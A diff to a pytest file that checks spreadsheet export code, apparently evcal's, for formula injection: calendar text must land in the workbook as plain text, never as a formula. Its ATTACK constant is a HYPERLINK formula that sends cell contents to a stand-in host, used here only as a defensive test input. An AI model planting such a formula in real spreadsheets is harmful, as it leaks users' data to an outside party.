@@ -38,9 +38,12 @@ ATTACK = '=HYPERLINK("http://x.example/?q="&A1,"click")'
 
 
 def _formula_cells(path: Path) -> list[str]:
+    """Formula cells that evcal did not write as one (the Plan sheet's own: evcal.plan.workbook_plan)."""
+    from evcal.plan.workbook_plan import is_own_formula
+
     wb = load_workbook(path)
     return [f"{ws.title}!{c.coordinate}" for ws in wb for row in ws.iter_rows() for c in row
-            if c.data_type == "f"]
+            if c.data_type == "f" and not (ws.title == "Plan" and is_own_formula(str(c.value)))]
 
 
 @pytest.fixture(scope="module")
@@ -65,9 +68,10 @@ def test_calendar_text_never_becomes_a_formula_in_the_plan_workbook(attacked_mod
     assert _formula_cells(out) == []
     wb = load_workbook(out)
     texts = [c.value for ws in wb for row in ws.iter_rows() for c in row if c.value == ATTACK]
-    assert len(texts) == 2 + len(res.occurrences)  # the text reads the same, unquoted
-    headers = [c.value for c in wb["Plan"][1]]
-    assert f"lift:{ATTACK}" in headers
+    # the text reads the same, unquoted: Lifts (event, label), each occurrence, the Plan sheet's header
+    assert len(texts) == 3 + len(res.occurrences)
+    codes = next(r for r in wb["Plan"].values if r[0] == "date")  # the hidden row of plan.csv's names
+    assert f"lift:{ATTACK}" in codes
 
 
 def test_plan_csv_text_is_prefixed_and_numbers_are_not(attacked_model) -> None:
@@ -130,7 +134,7 @@ def test_workbook_cell_control_characters_do_not_stop_the_write(tmp_path: Path) 
     out = write_workbook(tmp_path / "w.xlsx", pd.DataFrame(), lifts, pd.DataFrame(), pd.DataFrame())
     ws = load_workbook(out)["Lifts"]
     assert ws["A2"].value == "bad\ufffdname" and ws["A3"].value == "=1+1"
-    assert ws["A3"].data_type == "s" and ws["B3"].value == -2.0
+    assert ws["A3"].data_type == "s" and ws["B3"].value == -0.02  # -2 % in a percent format
 
 
 # XML 1.0 cannot hold most C0 control characters, and a bare CR in XML text is read back
@@ -169,7 +173,7 @@ def test_workbook_round_trip_property(tmp_path_factory: pytest.TempPathFactory, 
     assert _formula_cells(out) == []
     ws = load_workbook(out)["Lifts"]
     assert [ws.cell(row=r, column=1).value for r in range(2, len(texts) + 2)] == texts
-    assert all(ws.cell(row=r, column=2).value == -1.5 for r in range(2, len(texts) + 2))
+    assert all(ws.cell(row=r, column=2).value == -0.015 for r in range(2, len(texts) + 2))  # -1.5 %
 
 
 def test_formula_safe_cell_on_openpyxl() -> None:
